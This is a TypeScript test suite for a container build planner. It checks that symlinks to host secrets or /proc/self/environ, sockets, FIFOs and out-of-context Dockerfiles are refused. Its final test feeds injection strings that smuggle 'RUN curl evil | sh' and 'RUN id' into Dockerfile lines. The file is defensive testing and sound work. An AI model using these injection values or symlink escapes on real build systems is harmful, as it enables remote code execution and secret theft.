import { execFileSync } from "node:child_process";
import fs from "node:fs";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeEach, describe, expect, it } from "vitest";
import { resolveConfig } from "../config/resolve.ts";
import type { ParsedConfig } from "../config/schema.ts";
import { dockerignore, folderFiles } from "./context.ts";
import { planBuild } from "./plan.ts";

const tmp = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "mcpbox-context-")));
// a host folder outside the config's (tmp's) folder
const far = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "mcpbox-context-far-")));
afterAll(() => {
  fs.rmSync(tmp, { recursive: true, force: true });
  fs.rmSync(far, { recursive: true, force: true });
});

let n = 0;
let ctx: string;
let secret: string;
beforeEach(() => {
  ctx = path.join(tmp, `ctx${++n}`);
  fs.mkdirSync(path.join(ctx, "sub"), { recursive: true });
  fs.writeFileSync(path.join(ctx, "Dockerfile"), "FROM node:24-bookworm-slim\nCOPY . /app\n");
  fs.writeFileSync(path.join(ctx, "sub", "a.txt"), "a");
  secret = path.join(far, `secret${n}.txt`);
  fs.writeFileSync(secret, "CANARY");
});

const files = (ignored?: (rel: string) => boolean) => folderFiles(ctx, "", { where: "W", ignored, skipped: new Set() });
const link = (target: string, at: string) => fs.symlinkSync(target, path.join(ctx, at));

describe("folderFiles", () => {
  it("sends a link that stays inside as a link, not as the file it points at", () => {
    link("sub/a.txt", "inner");
    link("../a.txt", "sub/up");
    link("sub", "dirlink");
    const byName = Object.fromEntries(files().map((f) => [f.name, f]));
    expect(byName.inner).toMatchObject({ link: "sub/a.txt", data: Buffer.alloc(0) });
    expect(byName["sub/up"]).toMatchObject({ link: "../a.txt" });
    expect(byName.dirlink).toMatchObject({ link: "sub" });
    expect(Object.keys(byName)).not.toContain("dirlink/a.txt");
  });

  it("refuses a link to a host file, naming the link, its target and the fix", () => {
    link(secret, "key");
    expect(() => files()).toThrow(`W: key is a symlink to ${secret}, outside ${ctx}`);
    try {
      files();
    } catch (e) {
      expect((e as { hint: string }).hint).toMatch(/copy the file into the folder/);
    }
  });

  it("refuses .. escapes, /proc and chains that leave through another link", () => {
    link(path.relative(path.join(ctx, "sub"), secret), "sub/rel");
    expect(() => files()).toThrow(/sub\/rel is a symlink to (\.\.\/)+mcpbox-context-far-.*secret/);
    fs.rmSync(path.join(ctx, "sub/rel"));
    link("/proc/self/environ", "env");
    expect(() => files()).toThrow(/env is a symlink to \/proc\/self\/environ/);
    fs.rmSync(path.join(ctx, "env"));
    // hop is ignored (so never judged itself), but chain leads through it to the host file
    link(secret, "hop");
    link("hop", "chain");
    expect(() => files((rel) => rel === "hop")).toThrow(`W: chain is a symlink to hop (${secret}), outside ${ctx}`);
  });

  it("refuses a socket", async () => {
    const server = net.createServer();
    await new Promise<void>((resolve) => server.listen(path.join(ctx, "sock"), resolve));
    try {
      expect(() => files()).toThrow("W: sock is a socket;");
    } finally {
      server.close();
    }
  });

  it("refuses a FIFO at once; an ignored one is not looked at", () => {
    execFileSync("mkfifo", [path.join(ctx, "sub", "pipe")]);
    const started = performance.now();
    expect(() => files()).toThrow("W: sub/pipe is a FIFO (named pipe); a build sends only regular files, folders and symlinks");
    expect(performance.now() - started).toBeLessThan(1000);
    expect(files((rel) => rel === "sub/pipe").map((f) => f.name)).toEqual(["Dockerfile", "sub/a.txt"]);
  });

  it("reads a .dockerignore only when it is a regular file inside the folder", () => {
    link(secret, ".dockerignore");
    expect(() => dockerignore(ctx, "W")).toThrow(/\.dockerignore is a symlink/);
    fs.rmSync(path.join(ctx, ".dockerignore"));
    execFileSync("mkfifo", [path.join(ctx, ".dockerignore")]);
    expect(() => dockerignore(ctx, "W")).toThrow(/FIFO/);
  });
});

describe("planBuild keeps every input in its folder", () => {
  const plan = (servers: Record<string, unknown>, build: Record<string, unknown> = {}) => {
    const config = resolveConfig({ servers, build } as unknown as ParsedConfig, path.join(tmp, "sandbox.config.json"));
    return planBuild(config.servers[0]!, config, { imageId: async () => undefined });
  };
  const context = () => `./${path.basename(ctx)}`;

  it("refuses a Dockerfile outside the context, by .. or by an absolute path", async () => {
    fs.mkdirSync(path.join(tmp, "outside"), { recursive: true });
    fs.writeFileSync(path.join(tmp, "outside", "Dockerfile"), "FROM x\n");
    await expect(plan({ s: { build: { context: context(), dockerfile: "../outside/Dockerfile" } } })).rejects.toThrow(
      /servers\.s\.build\.dockerfile: \.\.\/outside\/Dockerfile is outside the build context/,
    );
    await expect(plan({ s: { build: { context: context(), dockerfile: path.join(tmp, "outside", "Dockerfile") } } })).rejects.toThrow(
      /is outside the build context/,
    );
  });

  it("refuses a Dockerfile that links outside, and sends one that links inside as a file", async () => {
    fs.renameSync(path.join(ctx, "Dockerfile"), path.join(ctx, "sub", "real.Dockerfile"));
    link("sub/real.Dockerfile", "Dockerfile");
    const p = await plan({ s: { build: { context: context() } } });
    expect(p.files.find((f) => f.name === "Dockerfile")?.link).toBeUndefined();
    expect(p.dockerfile).toContain("COPY . /app");
    fs.rmSync(path.join(ctx, "Dockerfile"));
    link(secret, "Dockerfile");
    await expect(plan({ s: { build: { context: context() } } })).rejects.toThrow(/Dockerfile is a symlink to/);
  });

  it("changes the tag when a link's target changes", async () => {
    link("sub/a.txt", "l");
    const a = await plan({ s: { build: { context: context() } } });
    fs.rmSync(path.join(ctx, "l"));
    link("Dockerfile", "l");
    expect((await plan({ s: { build: { context: context() } } })).hash).not.toBe(a.hash);
  });

  it("refuses a local package archive or folder that is a link to elsewhere", async () => {
    link(secret, "pkg.tgz");
    await expect(plan({ s: { template: "node", package: `${context()}/pkg.tgz` } })).rejects.toThrow(
      /servers\.s\.package: .*pkg\.tgz leads to .*secret\d+\.txt, outside/,
    );
    link(far, "pkgdir");
    await expect(plan({ s: { template: "node", package: `${context()}/pkgdir` } })).rejects.toThrow(/pkgdir leads to/);
  });

  it("refuses a CA bundle that is a FIFO instead of hanging", async () => {
    execFileSync("mkfifo", [path.join(ctx, "ca.pem")]);
    const config = resolveConfig({ servers: { s: { template: "node", package: "x@1" } } } as unknown as ParsedConfig, path.join(tmp, "c.json"));
    await expect(planBuild(config.servers[0]!, config, { imageId: async () => undefined, caCert: path.join(ctx, "ca.pem") })).rejects.toThrow(
      /build\.caCerts: .*ca\.pem is a FIFO/,
    );
  });

  it("refuses a package spec or base image that would end a Dockerfile line", async () => {
    await expect(plan({ s: { template: "node", package: "x@1'\nRUN curl evil | sh\n#" } })).rejects.toThrow(
      /servers\.s\.package: holds a control character \(U\+000A\)/,
    );
    await expect(plan({ s: { template: "python", package: "x==1" } }, { baseImages: { python: "python:3\rRUN id" } })).rejects.toThrow(
      /build\.baseImages\.python: holds a control character \(U\+000D\)/,
    );
  });
});
